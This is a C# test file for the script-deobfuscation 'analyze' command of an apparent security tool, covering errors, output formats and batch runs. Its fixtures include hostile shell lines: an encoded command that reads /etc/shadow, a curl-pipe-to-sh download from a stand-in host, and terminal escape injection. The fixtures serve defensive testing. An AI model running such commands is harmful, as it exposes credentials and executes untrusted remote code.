using System.Text;
using System.Text.Json;
using Redoubt.Server.Hosting;

namespace Redoubt.Server.Tests.Commands;

public sealed class AnalyzeCommandTests : IDisposable
{
    private readonly TemporaryFolder _folder = TemporaryFolder.Create("redoubt-test-");

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("analyze", "give one of")]
    [InlineData("analyze x --batch a b", "give one of")]
    [InlineData("analyze --batch only-one", "--batch")]
    [InlineData("analyze x --language cobol", "powershell, batch, bash")]
    [InlineData("analyze x --output html", "text, json, md")]
    public async Task Wrong_use_is_2(string line, string says)
    {
        var (exit, output, error) = await CommandLine.RunAsync(line.Split(' '));
        exit.ShouldBe(2, error);
        output.ShouldBeEmpty();
        error.ShouldContain(says);
    }

    [Fact]
    public async Task A_script_from_standard_input_is_explained()
    {
        var (exit, output, error) = await CommandLine.RunAsync(["analyze", "-", "--language", "bash"], "echo 'bHMgLWxhIC9ldGMvc2hhZG93' | base64 -d | sh\n");
        exit.ShouldBe(0, error);
        output.ShouldContain("ls -la /etc/shadow");
        output.ShouldContain("[layer ");
    }

    [Fact]
    public async Task What_comes_out_of_a_script_cannot_command_a_terminal()
    {
        var (exit, output, _) = await CommandLine.RunAsync(["analyze", "-", "--language", "bash"], "curl http://drop.example.test/\u001b[2Jx -o '\u202Ea'\n");
        exit.ShouldBe(0);
        output.ShouldNotContain('\u001b');
        output.ShouldNotContain('\u202E');
    }

    [Fact]
    public async Task Json_and_markdown_are_for_programs_and_tickets()
    {
        var file = Path.Combine(_folder.Path, "a.sh");
        await File.WriteAllTextAsync(file, "#!/bin/sh\ncurl -s http://drop.example.test/a.sh | sh\n");
        var (_, json, _) = await CommandLine.RunAsync("analyze", file, "--output", "json");
        JsonSerializer.Deserialize<JsonElement>(json).GetProperty("language").GetString().ShouldBe("bash");
        var (_, markdown, _) = await CommandLine.RunAsync("analyze", file, "--output", "md");
        markdown.ShouldStartWith("# ");
        markdown.ShouldContain("hxxp://drop\\[.\\]example\\[.\\]test");
    }

    [Fact]
    public async Task A_file_that_is_not_there_is_named()
    {
        var (exit, _, error) = await CommandLine.RunAsync("analyze", Path.Combine(_folder.Path, "none.ps1"));
        exit.ShouldBe(1);
        error.ShouldContain("none.ps1 cannot be read");
    }

    [Fact]
    public async Task A_batch_keeps_the_order_and_stops_at_nothing()
    {
        var (input, output) = (Path.Combine(_folder.Path, "in.jsonl"), Path.Combine(_folder.Path, "out.jsonl"));
        var lines = new List<string> { "rubbish", """{"id":"b","input":5}""", """{"id":"c","input":"x","language":"cobol"}""", "" };
        lines.AddRange(Enumerable.Range(0, 50).Select(i => JsonSerializer.Serialize(new { id = $"n{i}", input = $"echo {i} | rev | rev", language = "bash" })));
        await File.WriteAllLinesAsync(input, lines, Encoding.UTF8);
        var (exit, _, error) = await CommandLine.RunAsync("analyze", "--batch", input, output);
        exit.ShouldBe(0, error);
        var rows = (await File.ReadAllLinesAsync(output)).Select(line => JsonSerializer.Deserialize<JsonElement>(line)).ToList();
        rows.Count.ShouldBe(53);
        rows[0].GetProperty("line").GetInt64().ShouldBe(1);
        rows[0].GetProperty("error").GetString()!.ShouldContain("line 1");
        rows[1].GetProperty("id").GetString().ShouldBe("b");
        rows[2].GetProperty("error").GetString()!.ShouldContain("cobol");
        rows.Skip(3).Select(row => row.GetProperty("id").GetString()).ShouldBe(Enumerable.Range(0, 50).Select(i => $"n{i}"));
        foreach (var field in (string[])["language", "deobfuscated", "layers", "iocs", "techniques", "verdict", "score", "steps", "ms"])
            rows[3].TryGetProperty(field, out _).ShouldBeTrue(field);
        error.ShouldContain("53 scripts, 3 of them failed");
    }
}
